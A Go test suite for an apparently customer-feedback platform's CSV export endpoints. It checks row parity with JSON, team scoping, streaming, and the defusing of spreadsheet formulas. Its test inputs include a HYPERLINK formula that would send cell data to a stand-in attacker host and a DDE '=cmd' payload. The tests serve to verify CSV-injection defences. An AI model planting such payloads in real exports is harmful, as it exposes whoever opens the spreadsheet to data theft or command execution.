package api_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"html"
	"io"
	"math"
	"net"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"reflect"
	"regexp"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/cxloop/cxloop/internal/app/apptest"
	"github.com/cxloop/cxloop/internal/store/storetest"
)

// getCSV fetches path as CSV with token (asking by Accept when byAccept,
// else by ?format=csv) and returns its header and rows.
func getCSV(t *testing.T, s *apptest.Server, path, token string, byAccept bool) ([]string, [][]string) {
	t.Helper()
	headers := []string{"Authorization: Bearer " + token}
	if byAccept {
		headers = append(headers, "Accept: text/csv")
	} else if strings.Contains(path, "?") {
		path += "&format=csv"
	} else {
		path += "?format=csv"
	}
	req, _ := http.NewRequest("GET", s.URL+path, nil)
	for _, h := range headers {
		k, v, _ := strings.Cut(h, ": ")
		req.Header.Set(k, v)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var body bytes.Buffer
	_, _ = body.ReadFrom(resp.Body)
	if resp.StatusCode != 200 || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv") ||
		!strings.HasPrefix(resp.Header.Get("Content-Disposition"), "attachment; filename=") || !strings.Contains(resp.Header.Get("Content-Disposition"), `.csv"`) {
		t.Fatalf("GET %s as CSV: %d %q %q %s", path, resp.StatusCode, resp.Header.Get("Content-Type"), resp.Header.Get("Content-Disposition"), body.String())
	}
	recs, err := csv.NewReader(&body).ReadAll()
	if err != nil || len(recs) == 0 {
		t.Fatalf("GET %s: not CSV with a header (%v): %s", path, err, body.String())
	}
	return recs[0], recs[1:]
}

// getJSON fetches path as JSON with token and returns the list under key.
func getJSON(t *testing.T, s *apptest.Server, path, token, key string) []map[string]any {
	t.Helper()
	code, body := s.Do("GET", path, nil, "Authorization: Bearer "+token)
	if code != 200 {
		t.Fatalf("GET %s: %d %s", path, code, body)
	}
	var out map[string]any
	if err := json.Unmarshal(body, &out); err != nil {
		t.Fatal(err)
	}
	var list []map[string]any
	raw, _ := json.Marshal(out[key])
	_ = json.Unmarshal(raw, &list)
	return list
}

// at reads a dotted path of a JSON value.
func at(v any, path string) (any, bool) {
	for _, k := range strings.Split(path, ".") {
		m, ok := v.(map[string]any)
		if !ok {
			return nil, false
		}
		if v, ok = m[k]; !ok {
			return nil, false
		}
	}
	return v, true
}

// sameRows checks that the CSV rows say what the JSON items say, cell by
// cell, and that every field of the JSON has its column.
func sameRows(t *testing.T, what string, items []map[string]any, header []string, rows [][]string) {
	t.Helper()
	if len(rows) != len(items) {
		t.Fatalf("%s: %d CSV rows, %d JSON items", what, len(rows), len(items))
	}
	cols := map[string]bool{}
	for _, h := range header {
		cols[h] = true
		for p := h; strings.Contains(p, "."); {
			p = p[:strings.LastIndex(p, ".")]
			cols[p] = true
		}
	}
	for i, item := range items {
		for k := range item {
			if !cols[k] {
				t.Errorf("%s: JSON field %q has no column in %v", what, k, header)
			}
		}
		for j, h := range header {
			v, _ := at(item, h)
			got := rows[i][j]
			if parent, ok := strings.CutSuffix(h, ".other"); ok {
				// The keys of parent without a column of their own, as JSON.
				rest := others(item[parent], parent, cols)
				var back any
				if (got == "") != (len(rest) == 0) || got != "" && (json.Unmarshal([]byte(got), &back) != nil || !reflect.DeepEqual(back, any(rest))) {
					t.Errorf("%s row %d %s = %q, want %v", what, i, h, got, rest)
				}
				continue
			}
			switch x := v.(type) {
			case nil:
				if got != "" {
					t.Errorf("%s row %d %s = %q, JSON null/absent", what, i, h, got)
				}
			case string:
				want := x
				if x != "" && strings.ContainsRune("=+-@\t\r", rune(x[0])) {
					want = "'" + x
				}
				if got != want {
					t.Errorf("%s row %d %s = %q, JSON %q", what, i, h, got, x)
				}
			case float64:
				f, err := strconv.ParseFloat(got, 64)
				if err != nil || math.Abs(f-x) > 1e-9*math.Max(1, math.Abs(x)) {
					t.Errorf("%s row %d %s = %q, JSON %v", what, i, h, got, x)
				}
			case bool:
				if got != strconv.FormatBool(x) {
					t.Errorf("%s row %d %s = %q, JSON %v", what, i, h, got, x)
				}
			default:
				var back any
				if err := json.Unmarshal([]byte(got), &back); err != nil || !reflect.DeepEqual(back, v) {
					t.Errorf("%s row %d %s = %q, JSON %v", what, i, h, got, v)
				}
			}
		}
	}
}

// others is the object v (at path) without the keys that have a column
// of their own in cols, and without the objects that leaves empty.
func others(v any, path string, cols map[string]bool) map[string]any {
	m, _ := v.(map[string]any)
	out := map[string]any{}
	for k, x := range m {
		p := path + "." + k
		switch sub, ok := x.(map[string]any); {
		case cols[p] && !ok:
		case ok && cols[p]: // some of its keys have columns
			if rest := others(sub, p, cols); len(rest) > 0 {
				out[k] = rest
			}
		default:
			out[k] = x
		}
	}
	return out
}

func col(t *testing.T, header []string, name string) int {
	t.Helper()
	for i, h := range header {
		if h == name {
			return i
		}
	}
	t.Fatalf("no column %q in %v", name, header)
	return -1
}

const hyperlink = `=HYPERLINK("https://evil.example/?d="&A1,"Click")`

// Every list and report exports as CSV the rows its JSON gives, under a
// team-scoped token only its teams' cases, with formulas defused.
func TestCSVExports(t *testing.T) {
	storetest.EachDSN(t, func(t *testing.T, dsn string) {
		s, clock := apptest.StartAt(t, dsn, apptest.Epoch)
		for _, team := range []string{"service", "billing"} {
			if code := s.API("POST", "/api/v1/teams", map[string]any{"name": team}, nil); code != 201 {
				t.Fatalf("team: %d", code)
			}
		}
		var detractors, complaints struct{ ID string }
		if code := s.API("POST", "/api/v1/rules", json.RawMessage(`{"name": "detractors", "when": {"event": "Survey Responded", "nps_max": 6},
			"then": {"open_case": {"team": "service", "kind": "detractor", "sla": "24h"}}}`), &detractors); code != 201 {
			t.Fatalf("rule: %d", code)
		}
		if code := s.API("POST", "/api/v1/rules", json.RawMessage(`{"name": "refunds", "when": {"event": "Refund Requested"},
			"then": {"open_case": {"team": "billing", "kind": "question", "sla": "48h"}}}`), &complaints); code != 201 {
			t.Fatalf("rule: %d", code)
		}
		var sv struct{ ID string }
		if code := s.API("POST", "/api/v1/surveys", json.RawMessage(`{"name": "NPS", "rhythm": "pulse", "owner": "service",
			"questions": [{"id": "q1", "type": "nps", "text": {"en": "?"}}, {"id": "q2", "type": "text", "text": {"en": "Why?"}}]}`), &sv); code != 201 {
			t.Fatalf("survey: %d", code)
		}
		// Five answers, two of them detractors; one comment is a formula.
		scores := []int{3, 9, 10, 6, 8}
		for i, sc := range scores {
			comment := fmt.Sprintf("comment %d", i)
			if i == 0 {
				comment = hyperlink
			}
			traits := map[string]any{"name": hyperlink, "email": fmt.Sprintf("u%d@example.com", i)}
			if i%2 == 1 { // traits of the spec's and the business's own, nested too
				traits["address"] = map[string]any{"city": "Porto", "floor": i}
				traits["plan"] = "gold"
			}
			s.MustSend("identify", map[string]any{"userId": fmt.Sprintf("u%d", i), "traits": traits})
			at := apptest.Epoch.Add(-time.Duration(i+1) * time.Hour).UTC()
			if code := s.API("POST", "/api/v1/surveys/"+sv.ID+"/responses", map[string]any{"customer": fmt.Sprintf("u%d", i),
				"answers": map[string]any{"q1": sc, "q2": comment}, "at": at.Format(time.RFC3339)}, nil); code != 201 {
				t.Fatalf("response: %d", code)
			}
		}
		for i := range 3 {
			s.MustSend("track", map[string]any{"userId": fmt.Sprintf("c%d", i), "event": "Refund Requested", "properties": map[string]any{"text": hyperlink}})
		}
		// Orders: 3 on the web, 1 returned; 2 in store, both returned.
		var orders []any
		for i, ch := range []string{"web", "web", "web", "store", "store"} {
			orders = append(orders, map[string]any{"type": "track", "userId": fmt.Sprintf("o%d", i), "event": "Order Completed",
				"properties": map[string]any{"order_id": fmt.Sprintf("ord-%d", i), "total": 40}, "context": map[string]any{"channel": ch}})
		}
		for _, i := range []int{0, 3, 4} {
			orders = append(orders, map[string]any{"type": "track", "userId": fmt.Sprintf("o%d", i), "event": "Order Refunded",
				"properties": map[string]any{"order_id": fmt.Sprintf("ord-%d", i), "reason": "=cmd|' /C calc'!A0"}})
		}
		s.MustSend("batch", map[string]any{"batch": orders})
		if code := s.API("POST", "/api/v1/products", map[string]any{"id": "sku-1", "name": hyperlink, "category": "Tents"}, nil); code != 200 && code != 201 {
			t.Fatalf("product: %d", code)
		}
		var alert struct{ ID string }
		if code := s.API("POST", "/api/v1/alerts", map[string]any{"name": "nps drop", "metric": "nps", "survey": sv.ID, "then": map[string]any{"open_case": map[string]any{"team": "service"}}}, &alert); code != 201 {
			t.Fatalf("alert: %d", code)
		}
		// One refused message for the quarantine.
		s.Send("batch", map[string]any{"batch": []any{map[string]any{"type": "track", "userId": "q"}, map[string]any{"type": "track", "userId": "q", "event": "ok"}}})
		var seg struct{ ID string }
		if code := s.API("POST", "/api/v1/segments", map[string]any{"name": "everyone", "query": map[string]any{}}, &seg); code != 201 {
			t.Fatalf("segment: %d", code)
		}
		s.Sync()

		admin := apptest.Token
		// One erased customer for the suppression list.
		s.MustSend("identify", map[string]any{"userId": "zed", "traits": map[string]any{"email": "zed@example.com"}})
		s.Sync()
		if code := s.API("DELETE", "/api/v1/customers/zed?suppress=true", nil, nil); code != 200 && code != 202 && code != 204 {
			t.Fatalf("erase: %d", code)
		}
		s.Sync()
		if h, rows := getCSV(t, s, "/api/v1/suppressions", admin, false); len(rows) != 1 || rows[0][col(t, h, "identities")] == "" {
			t.Errorf("suppressions as CSV: %v %v", h, rows)
		}
		// Cases: rows equal the JSON's, and the figures are what the rules say.
		h, rows := getCSV(t, s, "/api/v1/cases?status=all", admin, false)
		items := getJSON(t, s, "/api/v1/cases?status=all&limit=1000", admin, "cases")
		sameRows(t, "cases", items, h, rows)
		byTeam := map[string]int{}
		for _, r := range rows {
			team, kind := r[col(t, h, "teamName")], r[col(t, h, "kind")]
			created, err1 := time.Parse(time.RFC3339, r[col(t, h, "createdAt")])
			due, err2 := time.Parse(time.RFC3339, r[col(t, h, "dueAt")])
			sla := map[string]time.Duration{"service": 24 * time.Hour, "billing": 48 * time.Hour}[team]
			if err1 != nil || err2 != nil || due.Sub(created) != sla || due.Location() != time.UTC || !strings.HasSuffix(r[col(t, h, "dueAt")], "Z") {
				t.Errorf("case %v: due %v after creation, want %v (%v %v)", r, due.Sub(created), sla, err1, err2)
			}
			if (team == "service") != (kind == "detractor") || r[col(t, h, "breached")] != "false" || r[col(t, h, "status")] != "open" {
				t.Errorf("case %v", r)
			}
			if kind == "question" && r[col(t, h, "body")] != "'"+hyperlink {
				t.Errorf("complaint body %q is not defused", r[col(t, h, "body")])
			}
			byTeam[team]++
		}
		if byTeam["service"] != 2 || byTeam["billing"] != 3 || len(rows) != 5 {
			t.Fatalf("cases by team %v, want 2 service (scores ≤ 6) and 3 billing", byTeam)
		}
		// Asked by Accept, the same.
		if h2, rows2 := getCSV(t, s, "/api/v1/cases?status=all", admin, true); !reflect.DeepEqual(h2, h) || !reflect.DeepEqual(rows2, rows) {
			t.Errorf("Accept: text/csv differs from ?format=csv")
		}

		// A billing agent's export holds billing's cases only.
		var tok struct{ Token string }
		if code := s.API("POST", "/api/v1/tokens", map[string]any{"name": "agent", "role": "agent", "teams": []string{"billing"}}, &tok); code != 201 {
			t.Fatalf("token: %d", code)
		}
		h, rows = getCSV(t, s, "/api/v1/cases?status=all", tok.Token, false)
		sameRows(t, "billing's cases", getJSON(t, s, "/api/v1/cases?status=all", tok.Token, "cases"), h, rows)
		if len(rows) != 3 {
			t.Fatalf("billing agent exports %d cases, want its 3", len(rows))
		}
		for _, r := range rows {
			if r[col(t, h, "teamName")] != "billing" {
				t.Errorf("billing agent exports %v", r)
			}
		}

		// Responses: one column per question, the answers as given.
		h, rows = getCSV(t, s, "/api/v1/surveys/"+sv.ID+"/responses", admin, false)
		sameRows(t, "responses", getJSON(t, s, "/api/v1/surveys/"+sv.ID+"/responses", admin, "responses"), h, rows)
		if len(rows) != len(scores) {
			t.Fatalf("%d responses exported, want %d", len(rows), len(scores))
		}
		for i, r := range rows { // newest first: u0 answered an hour before the epoch, u1 two …
			want := apptest.Epoch.Add(-time.Duration(i+1) * time.Hour).UTC()
			if got, err := time.Parse(time.RFC3339, r[col(t, h, "respondedAt")]); err != nil || !got.Equal(want) {
				t.Errorf("response %d respondedAt %q, want %v", i, r[col(t, h, "respondedAt")], want)
			}
			if r[col(t, h, "answers.q1")] != strconv.Itoa(scores[i]) {
				t.Errorf("response %d q1 = %q, want %d", i, r[col(t, h, "answers.q1")], scores[i])
			}
		}
		if got := rows[0][col(t, h, "answers.q2")]; got != "'"+hyperlink {
			t.Errorf("comment %q is not defused", got)
		}

		// Scores: NPS from the five answers, computed here.
		h, rows = getCSV(t, s, "/api/v1/scores?metric=nps&survey="+sv.ID, admin, false)
		var sc struct {
			Groups  []map[string]any
			Overall map[string]any
		}
		s.API("GET", "/api/v1/scores?metric=nps&survey="+sv.ID, nil, &sc)
		want := sc.Groups
		if sc.Overall != nil {
			want = append(want, sc.Overall)
		}
		sameRows(t, "scores", want, h, rows)
		prom, det := 0, 0
		for _, v := range scores {
			if v >= 9 {
				prom++
			} else if v <= 6 {
				det++
			}
		}
		nps := 100 * float64(prom-det) / float64(len(scores))
		if v, err := strconv.ParseFloat(rows[0][col(t, h, "value")], 64); err != nil || math.Abs(v-nps) > 1e-9 || rows[0][col(t, h, "n")] != "5" {
			t.Errorf("NPS row %v, want value %v n 5", rows[0], nps)
		}

		// Customers: a column for each trait the spec reserves (the address
		// by its parts), the others in one JSON cell; search rows equal the JSON's.
		h, rows = getCSV(t, s, "/api/v1/customers", admin, false)
		sameRows(t, "customers", getJSON(t, s, "/api/v1/customers?limit=500", admin, "customers"), h, rows)
		porto := 0
		for _, r := range rows {
			if r[col(t, h, "traits.address.city")] == "Porto" && strings.HasPrefix(r[col(t, h, "traits.email")], "u") {
				porto++
				if other := r[col(t, h, "traits.other")]; !strings.Contains(other, `"plan":"gold"`) || !strings.Contains(other, `"floor"`) || strings.Contains(other, "Porto") {
					t.Errorf("the traits without columns: %s", other)
				}
			}
		}
		if porto != 2 {
			t.Errorf("%d customers of Porto exported, want 2", porto)
		}
		if len(rows) < 8 {
			t.Errorf("%d customers exported", len(rows))
		}

		// The other lists and reports: the same rows as their JSON.
		for _, c := range []struct{ path, key string }{
			{"/api/v1/quarantine", "messages"},
			{"/api/v1/rules/" + complaints.ID + "/firings", "firings"},
			{"/api/v1/returns/rates?by=channel", "groups"},
			{"/api/v1/returns/rates?by=reason", "groups"},
			{"/api/v1/returns/repurchase?by=channel", "groups"},
			{"/api/v1/recovery", "complainers"},
			{"/api/v1/analytics/at-risk", "customers"},
			{"/api/v1/silent-dissatisfied", "customers"},
			{"/api/v1/suppressions", "suppressions"},
			{"/api/v1/surveys/" + sv.ID + "/invitations", "invitations"},
			{"/api/v1/alerts/" + alert.ID + "/firings", "firings"},
			{"/api/v1/products", "products"},
		} {
			h, rows := getCSV(t, s, c.path, admin, false)
			sameRows(t, c.path, getJSON(t, s, c.path, admin, c.key), h, rows)
		}
		h, rows = getCSV(t, s, "/api/v1/returns/rates?by=channel", admin, false)
		rates := map[string]string{}
		for _, r := range rows {
			rates[r[col(t, h, "key")]] = r[col(t, h, "returns")] + "/" + r[col(t, h, "orders")] + "=" + r[col(t, h, "rate")]
		}
		if len(rows) != 2 || !strings.HasPrefix(rates["web"], "1/3=0.33") || rates["store"] != "2/2=1" {
			t.Errorf("return rates by channel as CSV: %v, want web 1/3 and store 2/2 as fractions", rates)
		}
		h, rows = getCSV(t, s, "/api/v1/returns/rates?by=reason", admin, false)
		if len(rows) != 1 || rows[0][col(t, h, "key")] != `'=cmd|' /C calc'!A0` {
			t.Errorf("return reasons as CSV: %v", rows)
		}
		h, rows = getCSV(t, s, "/api/v1/rules/"+complaints.ID+"/firings", admin, false)
		if len(rows) != 3 {
			t.Errorf("refunds rule fired %d times in the export, want 3", len(rows))
		}
		h, rows = getCSV(t, s, "/api/v1/products", admin, false)
		if len(rows) != 1 || rows[0][col(t, h, "name")] != "'"+hyperlink {
			t.Errorf("products as CSV: %v", rows)
		}
		h, rows = getCSV(t, s, "/api/v1/quarantine", admin, false)
		if len(rows) != 1 || rows[0][col(t, h, "field")] != "batch[0].event" {
			t.Errorf("quarantine export %v", rows)
		}
		h, rows = getCSV(t, s, "/api/v1/segments/"+seg.ID+"/members", admin, false)
		var members struct{ Customers []string }
		s.API("GET", "/api/v1/segments/"+seg.ID+"/members", nil, &members)
		if len(h) != 1 || h[0] != "customer" || len(rows) != len(members.Customers) || len(rows) == 0 {
			t.Fatalf("members: %v %d rows, JSON %d", h, len(rows), len(members.Customers))
		}
		for i, r := range rows {
			if r[0] != members.Customers[i] {
				t.Errorf("member %d %q, JSON %q", i, r[0], members.Customers[i])
			}
		}

		// The console's links run the same exports as the signed-in operator.
		jar, _ := cookiejar.New(nil)
		browser := &http.Client{Jar: jar}
		if resp, err := browser.PostForm(s.URL+"/login", url.Values{"token": {tok.Token}, "next": {"/cases"}}); err != nil || resp.StatusCode != 200 {
			t.Fatalf("sign-in: %v", err)
		} else {
			page, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			m := regexp.MustCompile(`id="download-cases" href="([^"]+)"`).FindSubmatch(page)
			if m == nil {
				t.Fatalf("no Download CSV link on /cases")
			}
			link := html.UnescapeString(string(m[1]))
			resp, err := browser.Get(s.URL + link)
			if err != nil {
				t.Fatal(err)
			}
			got, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			_, body := s.Do("GET", "/api/v1"+strings.TrimPrefix(link, "/export")+"&format=csv", nil, "Authorization: Bearer "+tok.Token)
			if resp.StatusCode != 200 || !strings.HasPrefix(resp.Header.Get("Content-Disposition"), "attachment") || string(got) != string(body) ||
				strings.Count(string(got), "\n") != 4 || strings.Contains(string(got), ",service,") {
				t.Errorf("console download %s: %d\n%s\nAPI:\n%s", link, resp.StatusCode, got, body)
			}
		}
		noFollow := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
		if resp, err := noFollow.Get(s.URL + "/export/cases"); err != nil || resp.StatusCode == 200 || resp.Header.Get("Content-Disposition") != "" {
			t.Errorf("an export without a session: %v %v", resp.StatusCode, err)
		} else {
			resp.Body.Close()
		}

		// An error before the first row is still JSON; a bad format is named.
		if code, body := s.Do("GET", "/api/v1/surveys/srv_none/responses?format=csv", nil, "Authorization: Bearer "+admin); code != 404 || !strings.Contains(string(body), `"not_found"`) {
			t.Errorf("unknown survey as CSV: %d %s", code, body)
		}
		if code, body := s.Do("GET", "/api/v1/cases?format=xlsx", nil, "Authorization: Bearer "+admin); code != 400 || !strings.Contains(string(body), `"field":"format"`) {
			t.Errorf("format=xlsx: %d %s", code, body)
		}
		_ = clock
	})
}

// A large export is streamed: it is read as the client reads it, so a case
// opened after the first rows arrived, due after all the others, is still in
// it. An export built whole before its first byte could not hold it.
func TestCSVExportStreams(t *testing.T) {
	storetest.EachDSN(t, func(t *testing.T, dsn string) {
		s, clock := apptest.StartAt(t, dsn, apptest.Epoch)
		if code := s.API("POST", "/api/v1/teams", map[string]any{"name": "billing"}, nil); code != 201 {
			t.Fatalf("team: %d", code)
		}
		if code := s.API("POST", "/api/v1/rules", json.RawMessage(`{"name": "refunds", "when": {"event": "Refund Requested"},
			"then": {"open_case": {"team": "billing", "kind": "question", "sla": "48h"}}}`), nil); code != 201 {
			t.Fatalf("rule: %d", code)
		}
		// 5,000 cases of 5 KB: 26 MB, far more than the sockets' buffers.
		const n, per = 5000, 50
		text := strings.Repeat("The parcel never came and nobody answers. ", 118) // 4,956 bytes
		for b := 0; b < n/per; b++ {
			batch := make([]any, per)
			for i := range batch {
				batch[i] = map[string]any{"type": "track", "userId": fmt.Sprintf("u%d", b*per+i), "event": "Refund Requested", "properties": map[string]any{"text": text}}
			}
			s.MustSend("batch", map[string]any{"batch": batch})
		}
		s.SyncFor(5 * time.Minute)

		// A client with a small receive buffer: the server can get only a
		// few MB (its send buffer) ahead of what the client has read.
		client := &http.Client{Transport: &http.Transport{DialContext: (&net.Dialer{Control: func(_, _ string, c syscall.RawConn) error {
			var serr error
			err := c.Control(func(fd uintptr) { serr = syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_RCVBUF, 16<<10) })
			return errors.Join(err, serr)
		}}).DialContext}}
		req, _ := http.NewRequest("GET", s.URL+"/api/v1/cases?status=all", nil)
		req.Header.Set("Authorization", "Bearer "+apptest.Token)
		req.Header.Set("Accept", "text/csv")
		resp, err := client.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		r := csv.NewReader(resp.Body)
		header, err := r.Read()
		if err != nil {
			t.Fatal(err)
		}
		first, err := r.Read()
		if err != nil || resp.StatusCode != 200 {
			t.Fatalf("first row: %d %v", resp.StatusCode, err)
		}
		// The first row is here; now a case due after every other opens.
		clock.Add(time.Hour)
		s.MustSend("track", map[string]any{"userId": "late", "event": "Refund Requested", "properties": map[string]any{"text": "late"}})
		s.Sync()
		rows, last := 1, first
		for {
			rec, err := r.Read()
			if err != nil {
				if !errors.Is(err, io.EOF) {
					t.Fatal(err)
				}
				break
			}
			rows, last = rows+1, rec
		}
		if rows != n+1 || last[col(t, header, "userId")] != "late" {
			t.Fatalf("export has %d rows ending with %q; want %d ending with the case opened while it streamed", rows, last[col(t, header, "userId")], n+1)
		}
	})
}
